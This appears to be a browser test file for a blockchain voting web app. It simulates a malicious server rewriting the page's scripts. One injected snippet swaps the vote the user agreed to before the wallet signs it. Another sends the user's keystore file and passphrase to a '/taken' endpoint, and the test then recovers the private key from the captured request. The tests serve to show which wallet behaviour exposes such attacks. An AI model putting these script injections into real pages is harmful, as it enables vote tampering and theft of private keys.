"""A server that changes the page's own script: what it gains, and what a wallet shows a careful person."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from eth_account import Account
from playwright.sync_api import Page, Route, expect

from ledger.calls import call
from tests.pages.test_signing import PASSPHRASE, QUICK_SCRYPT, on_desktop
from tests.pages.test_taking_part import confirm
from tests.pages.test_wallets_that_misbehave import NO, ask_to_vote, ballot_of
from tests.pages.village import Village
from tests.pages.wallets import Wallet, sign_in
from tests.world import MEMBERS

pytestmark = [pytest.mark.browser, pytest.mark.chain, pytest.mark.slow, pytest.mark.web]

AGAINST = 0
SHOWN_AND_AGREED = 'tell("Signing …");'
TURNED = (
    SHOWN_AND_AGREED + " Object.assign(prepared, (await post(`/v1/intents/${name}/prepare`,"
    " { ...fields, support: 0, signer: who.address })).data);"
)
"""What the server's own script does once the person agreed to what it was shown."""


TAKES_A_FILE = "export async function importKeystore(text, passphrase) {"
HANDS_IT_ON = ' void fetch("/taken", { method: "POST", body: JSON.stringify([text, passphrase]) });'


def twist(page: Page, script: str, place: str, twisted: str) -> None:
    """Serves one of the page's scripts with a place in it changed."""

    def serve(route: Route) -> None:
        answer = route.fetch()
        text = answer.text()
        assert text.count(place) == 1, f"{script} does this elsewhere now"
        route.fulfill(response=answer, body=text.replace(place, twisted))

    page.route(f"**/{script}*", serve)


@pytest.fixture
def voter(page: Page) -> Iterator[Wallet]:
    """A member in a page whose script shows one ballot and has the wallet sign another."""
    twist(page, "intents.js", SHOWN_AND_AGREED, TURNED)
    yield sign_in(page, MEMBERS[0])
    page.unroute_all(behavior="wait")


def agree_to(page: Page) -> None:
    """Reads the page's sentence, which is the ballot that was chosen, and agrees."""
    expect(page.locator("dialog .sentence")).to_contain_text("Vote FOR")
    confirm(page)


@on_desktop
def test_a_wallet_that_shows_what_it_signs_is_given_all_that_a_lying_page_hides(
    page: Page, place: Village, sent: list[str], voter: Wallet
) -> None:
    """The whole typed data, never a bare hash: whoever reads it says no, and nothing was handed in."""
    voter.refusals["eth_signTypedData_v4"] = NO
    sent.clear()
    said = ask_to_vote(page)
    agree_to(page)
    expect(said).to_have_text("You said no in your wallet. Nothing was sent.")
    assert sent == []
    (shown,) = voter.shown
    governor = place.world.deployment.addresses["ConsortiumGovernor"]
    assert (shown["primaryType"], shown["domain"]["chainId"]) == ("CastVote", place.world.chain.chain_id)
    assert shown["domain"]["verifyingContract"].lower() == governor
    message = shown["message"]
    assert [one["name"] for one in shown["types"]["CastVote"]] == list(message)
    assert (int(message["proposalId"]), message["voter"].lower()) == ballot_of(page)
    assert int(message["support"]) == AGAINST, "the person agreed to a vote for it"
    assert set(voter.asked) <= {"eth_requestAccounts", "eth_chainId", "personal_sign", "eth_signTypedData_v4"}
    assert voter.asked.count("personal_sign") == 1, "the text of the sign-in, before"


@on_desktop
def test_a_wallet_that_signs_blindly_votes_as_a_lying_page_likes(
    page: Page, place: Village, voter: Wallet
) -> None:
    """The attack works: nothing in a page can stop the server that made it."""
    ask_to_vote(page)
    agree_to(page)
    expect(page.get_by_role("main")).to_contain_text("You voted against")
    governor = place.world.deployment.addresses["ConsortiumGovernor"]
    asked = call(governor, "ballotOf(uint256,address)", *ballot_of(page))
    answer = place.world.chain.call(asked.to, asked.data)
    assert (answer[31], answer[63]) == (1, AGAINST)
    assert len(voter.shown) == 1


@on_desktop
def test_a_key_that_is_kept_in_the_browser_is_a_lying_pages(page: Page, tmp_path: Path) -> None:
    """The attack works: what a person gives to a page, file and passphrase, the page can hand on."""
    twist(page, "keyring.js", TAKES_A_FILE, TAKES_A_FILE + HANDS_IT_ON)
    page.route("**/taken", lambda route: route.fulfill(status=204))
    keystore = tmp_path / "keystore.json"
    keystore.write_text(json.dumps(Account.encrypt(MEMBERS[1].key, PASSPHRASE, iterations=QUICK_SCRYPT)))
    page.goto("/key")
    form = page.locator("form[data-action=key-import]")
    form.locator("input[type=file]").set_input_files(keystore)
    form.locator("input[type=password]").fill(PASSPHRASE)
    with page.expect_response("**/taken") as taken:
        form.get_by_role("button", name="Import").click()
    assert bytes(Account.decrypt(*json.loads(str(taken.value.request.post_data)))) == MEMBERS[1].key
    page.unroute_all(behavior="wait")
